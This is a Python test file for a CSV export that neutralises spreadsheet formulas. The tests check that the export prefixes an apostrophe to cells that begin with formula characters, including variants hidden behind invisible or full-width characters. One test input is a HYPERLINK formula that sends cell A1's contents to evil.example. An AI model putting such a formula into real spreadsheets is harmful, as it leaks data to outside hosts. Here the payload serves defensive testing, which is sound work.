"""Cells that a spreadsheet shows and does not run, rows that are read as they are needed."""

import csv
import io
from datetime import UTC, date, datetime

import pytest

from foundation.tables import BYTE_ORDER_MARK, ROWS_AT_ONCE, Column, Table, harmless


def table_of(rows, **more):
    rows = list(rows)
    return Table("things", "Things", [Column("it", lambda row: row), Column("end", lambda _row: "|")], rows, len(rows))


def read(table):
    """Return the cells below the headings as a spreadsheet reads them."""
    text = "".join(some.text for some in table.lines()).removeprefix(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1;"Hier")',
        "+49 231 1",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\x00=1+1",
        "=\x001+1",
        *("＝1+1", "＋1", "－1", "＠SUM(1)"),  # full width
        *("﹢1", "﹣1", "﹦1", "﹫SUM(1)", "\N{MINUS SIGN}1"),  # small ones, and the minus of typesetters
        *("\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\x01=1+1", "\u2060 \t＝1"),  # behind what nobody sees
        "\tEingerückt",
    ],
)
def test_what_a_spreadsheet_would_run_is_words(typed):
    [[cell, end]] = read(table_of([typed]))
    assert cell == "'" + typed.replace("\x00", "")
    assert end == "|"


@pytest.mark.parametrize(
    "typed",
    [
        "Der Beamer; summt",
        'Er sagt: "Kein Bild"',
        'Zwei\nZeilen; und "eine" dritte\r\n=1+1',
        "Nur ein\rWagenrücklauf",
        "Äpfel, Öl – und ein € 🎓",
        "a=1+1",
        "'schon eines davor",
        "",
    ],
)
def test_everything_else_comes_back_as_it_was_typed(typed):
    assert read(table_of([typed])) == [[typed, "|"]]


def test_zero_bytes_are_left_out():
    assert harmless("Kein\x00Bild") == "KeinBild"


def test_what_is_no_words_reads_as_people_read_it():
    winter, summer = datetime(2026, 3, 2, 8, tzinfo=UTC), datetime(2026, 7, 2, 8, tzinfo=UTC)
    cells = [None, 0, -5, date(2026, 3, 2), winter, summer]
    told = ["", "0", "-5", "2026-03-02", "2026-03-02 09:00", "2026-07-02 10:00"]
    assert [cell for cell, _end in read(table_of(cells))] == told


def test_it_begins_with_the_byte_order_mark_and_the_headings():
    first = next(table_of(["x"]).lines())
    assert first == ("\ufeffIt;End\r\n", 0)


def test_an_empty_list_is_its_headings():
    assert [some.rows for some in table_of([]).lines()] == [0]


def test_rows_are_read_as_they_are_taken():
    read_so_far = []

    def rows():
        for number in range(3 * ROWS_AT_ONCE + 1):
            read_so_far.append(number)
            yield number

    table = Table("things", "Things", [Column("it", lambda row: row)], rows(), 3 * ROWS_AT_ONCE + 1)
    taken = []
    for some in table.lines():
        assert len(read_so_far) == sum(taken) + some.rows
        taken.append(some.rows)
    assert taken == [0, ROWS_AT_ONCE, ROWS_AT_ONCE, ROWS_AT_ONCE, 1]
